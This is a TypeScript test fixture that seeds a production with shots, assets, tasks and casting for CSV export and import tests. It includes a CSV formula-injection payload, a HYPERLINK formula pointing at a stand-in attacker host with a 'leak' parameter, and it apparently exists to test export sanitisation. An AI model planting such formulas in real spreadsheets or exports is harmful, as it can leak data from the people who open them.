import { sql } from 'kysely';
import type { TestContext } from '../../../../test/support/test-app.ts';
import { addTeamMember, createPerson, createProject, taskStatusId, uniqueSuffix } from '../../../../test/support/factories.ts';
import { member, type Member } from '../breakdown/breakdown.test-support.ts';

/**
 * A small but complete production for the CSV export / import suites, written straight to the
 * database: task types per kind, metadata descriptors, sequences, shots with frames and metadata,
 * assets of two types, tasks with statuses, assignees and time spent, shot and asset casting. As in a
 * production set up through Kitsu, every shot and asset has a task of each task type of its kind.
 */

export interface Named {
  id: string;
  name: string;
}

export interface CsvProduction {
  project: Named;
  isTvShow: boolean;
  admin: Member;
  manager: Member;
  artist: Member;
  vendor: Member;
  outsider: Member;
  taskTypes: { layout: Named; animation: Named; modeling: Named; rigging: Named };
  people: { alice: Named & { email: string }; bob: Named & { email: string } };
}

export const FORMULA_DESCRIPTION = '=HYPERLINK("http://evil.example/x?leak=1";"click me")';

async function typeId(ctx: TestContext, name: string): Promise<string> {
  const row = await ctx.db.selectFrom('entity_type').select('id').where('name', '=', name).executeTakeFirst();
  if (row) return row.id;
  return (await ctx.db.insertInto('entity_type').values({ name }).returning('id').executeTakeFirstOrThrow()).id;
}

async function taskType(ctx: TestContext, name: string, forEntity: string, priority: number): Promise<Named> {
  return ctx.db.insertInto('task_type').values({ name, for_entity: forEntity, priority }).returning(['id', 'name']).executeTakeFirstOrThrow();
}

/** Team, task types and descriptors: a production's settings, without any breakdown. */
export async function csvProductionSettings(ctx: TestContext, options: { tvShow?: boolean; like?: CsvProduction } = {}): Promise<CsvProduction> {
  const suffix = uniqueSuffix();
  const [admin, manager, artist, vendor, outsider] = await Promise.all([
    options.like?.admin ?? member(ctx, 'admin'),
    options.like?.manager ?? member(ctx, 'manager'),
    options.like?.artist ?? member(ctx, 'user'),
    options.like?.vendor ?? member(ctx, 'vendor'),
    options.like?.outsider ?? member(ctx, 'manager'),
  ]);
  const project = await createProject(ctx, { name: `Big Buck ${suffix}`, team: [{ id: manager.id }, { id: artist.id }, { id: vendor.id }] });
  const isTvShow = options.tvShow ?? options.like?.isTvShow ?? false;
  if (isTvShow) await ctx.db.updateTable('project').set({ production_type: 'tvshow' }).where('id', '=', project.id).execute();
  const taskTypes = options.like?.taskTypes ?? {
    layout: await taskType(ctx, `Layout ${suffix}`, 'Shot', 1),
    animation: await taskType(ctx, `Animation ${suffix}`, 'Shot', 2),
    modeling: await taskType(ctx, `Modeling ${suffix}`, 'Asset', 1),
    rigging: await taskType(ctx, `Rigging ${suffix}`, 'Asset', 2),
  };
  await ctx.db
    .insertInto('project_task_type_link')
    .values(Object.values(taskTypes).map((type, index) => ({ project_id: project.id, task_type_id: type.id, priority: index + 1 })))
    .execute();
  await ctx.db.insertInto('metadata_descriptor').values([
    { project_id: project.id, entity_type: 'Shot', name: 'Camera', field_name: 'camera', data_type: 'string', position: 1 },
    { project_id: project.id, entity_type: 'Shot', name: 'Stereo', field_name: 'stereo', data_type: 'boolean', position: 2 },
    { project_id: project.id, entity_type: 'Asset', name: 'Complexity', field_name: 'complexity', data_type: 'list', position: 1 },
  ]).execute();
  const person = async (firstName: string) => {
    const row = await createPerson(ctx, { firstName: `${firstName}${suffix}`, lastName: 'Artist' });
    return { id: row.id, name: `${row.first_name} ${row.last_name}`, email: row.email };
  };
  const people = options.like?.people ?? { alice: await person('Alice'), bob: await person('Bob') };
  return { project, isTvShow, admin, manager, artist, vendor, outsider, taskTypes, people };
}

async function entity(ctx: TestContext, values: { projectId: string; type: string; name: string; parentId?: string | null; sourceId?: string | null; description?: string; nbFrames?: number; data?: object }) {
  return ctx.db
    .insertInto('entity')
    .values({
      project_id: values.projectId, entity_type_id: await typeId(ctx, values.type), name: values.name, parent_id: values.parentId ?? null,
      source_id: values.sourceId ?? null, description: values.description ?? null, nb_frames: values.nbFrames ?? null, data: JSON.stringify(values.data ?? {}),
    })
    .returning(['id', 'name'])
    .executeTakeFirstOrThrow();
}

async function task(ctx: TestContext, p: CsvProduction, entityId: string, taskType: Named, status: string, assignees: string[], duration = 0) {
  const row = await ctx.db
    .insertInto('task')
    .values({ project_id: p.project.id, entity_id: entityId, task_type_id: taskType.id, task_status_id: await taskStatusId(ctx, status), duration })
    .returning('id')
    .executeTakeFirstOrThrow();
  if (assignees.length > 0) await ctx.db.insertInto('assignations').values(assignees.map((person_id) => ({ task_id: row.id, person_id }))).execute();
  for (const id of assignees) await addTeamMember(ctx, p.project.id, id);
}

/** The production with its breakdown, tasks and casting. */
export async function csvProduction(ctx: TestContext, options: { tvShow?: boolean } = {}): Promise<CsvProduction & { shots: Record<string, Named>; assets: Record<string, Named> }> {
  const p = await csvProductionSettings(ctx, options);
  const projectId = p.project.id;
  const episode = p.isTvShow ? await entity(ctx, { projectId, type: 'Episode', name: 'E01' }) : undefined;
  const sq01 = await entity(ctx, { projectId, type: 'Sequence', name: 'SQ01', parentId: episode?.id });
  const sq02 = await entity(ctx, { projectId, type: 'Sequence', name: 'SQ02', parentId: episode?.id });
  const shots = {
    sh010: await entity(ctx, { projectId, type: 'Shot', name: 'SH010', parentId: sq01.id, description: FORMULA_DESCRIPTION, nbFrames: 48, data: { frame_in: 1001, frame_out: 1048, fps: '24', camera: 'cam; "A"', stereo: 'true' } }),
    sh020: await entity(ctx, { projectId, type: 'Shot', name: 'SH020', parentId: sq01.id, description: 'Hero looks\nat the sword', nbFrames: 24, data: { frame_in: 1049, frame_out: 1072, fps: '24', stereo: 'false' } }),
    sq02sh010: await entity(ctx, { projectId, type: 'Shot', name: 'SH010', parentId: sq02.id, description: '@lead: check the timing', nbFrames: 5, data: { camera: '+cam_B', frame_in: -5, frame_out: -1, stereo: 'false' } }),
  };
  const assets = {
    hero: await entity(ctx, { projectId, type: 'Character', name: 'Hero', description: 'The hero', sourceId: episode?.id, data: { complexity: 'high' } }),
    villain: await entity(ctx, { projectId, type: 'Character', name: 'Villain', sourceId: episode?.id }),
    sword: await entity(ctx, { projectId, type: 'Prop', name: 'Sword', data: { complexity: 'low' } }),
  };
  const { layout, animation, modeling, rigging } = p.taskTypes;
  const { alice, bob } = p.people;
  await task(ctx, p, shots.sh010.id, layout, 'done', [alice.id], 480);
  await task(ctx, p, shots.sh010.id, animation, 'wip', [alice.id, bob.id], 240);
  await task(ctx, p, shots.sh020.id, layout, 'wfa', [bob.id]);
  await task(ctx, p, shots.sh020.id, animation, 'todo', []);
  await task(ctx, p, shots.sq02sh010.id, layout, 'retake', []);
  await task(ctx, p, shots.sq02sh010.id, animation, 'todo', []);
  await task(ctx, p, assets.hero.id, modeling, 'done', [bob.id], 960);
  await task(ctx, p, assets.hero.id, rigging, 'wip', [alice.id]);
  await task(ctx, p, assets.villain.id, modeling, 'todo', []);
  await task(ctx, p, assets.villain.id, rigging, 'todo', []);
  await task(ctx, p, assets.sword.id, modeling, 'wfa', [alice.id]);
  await task(ctx, p, assets.sword.id, rigging, 'todo', []);
  await ctx.db.insertInto('entity_link').values([
    { entity_in_id: shots.sh010.id, entity_out_id: assets.hero.id, nb_occurences: 2, label: 'fixed' },
    { entity_in_id: shots.sh010.id, entity_out_id: assets.sword.id, nb_occurences: 1, label: '' },
    { entity_in_id: shots.sh020.id, entity_out_id: assets.villain.id, nb_occurences: 1, label: 'animate' },
    { entity_in_id: assets.hero.id, entity_out_id: assets.sword.id, nb_occurences: 1, label: '' },
  ]).execute();
  await sql`UPDATE entity e SET nb_entities_out = (SELECT count(*) FROM entity_link l WHERE l.entity_in_id = e.id) WHERE e.project_id = ${projectId}`.execute(ctx.db);
  return { ...p, shots, assets };
}
